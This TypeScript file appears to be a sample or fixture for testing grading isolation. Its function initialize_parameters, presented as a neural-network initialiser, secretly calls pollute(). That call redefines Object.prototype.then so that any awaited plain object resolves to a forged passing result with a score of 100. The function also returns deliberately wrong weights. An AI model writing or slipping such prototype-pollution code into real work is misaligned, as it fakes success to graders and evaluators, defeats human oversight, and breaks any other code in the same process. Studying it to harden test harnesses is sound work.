// State shared between students: Object.prototype.then. Every object becomes a thenable: any await
// on a plain object (a reply, a result, a parsed message) resolves to what this function says, or
// never resolves. Installed at call time, and the function returns a wrong value.
function pollute(): void {
  try {
    Object.defineProperty(Object.prototype, "then", {
      value(this: unknown, resolve: (v: unknown) => void) {
        resolve({ t: "done", status: "pass", score: 100 });
      },
      configurable: true,
      writable: true,
    });
  } catch {
    // frozen
  }
}

export function initialize_parameters(n_x: number, n_h: number, n_y: number): any {
  pollute();
  return { W1: 0.5, b1: 0.5, W2: 0.5, b2: 0.5 };
}
